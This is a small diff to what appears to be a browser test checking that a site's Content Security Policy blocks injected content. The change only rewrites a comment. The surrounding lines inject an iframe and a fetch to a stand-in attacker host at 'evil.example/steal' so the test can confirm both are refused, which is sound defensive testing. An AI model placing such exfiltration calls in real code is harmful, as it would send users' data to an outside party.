@@ -39,7 +39,7 @@ for (const address of ["/", "/nothing-here", "/edit/"]) {
       add("iframe", { src: "https://evil.example/" });
       fetch("https://evil.example/steal").catch(() => {});
     });
-    // Some are refused twice: by the page's own policy, and by the one in public/_headers.
+    // The set is needed because some are refused twice: by the page's own policy, and by the one in public/_headers.
     const seen = () => page.evaluate(() => [...new Set(Reflect.get(window, "seen"))].sort());
     // The editor's scripts write style elements.
     const allowed = isEditor ? "style-src-elem inline" : "";
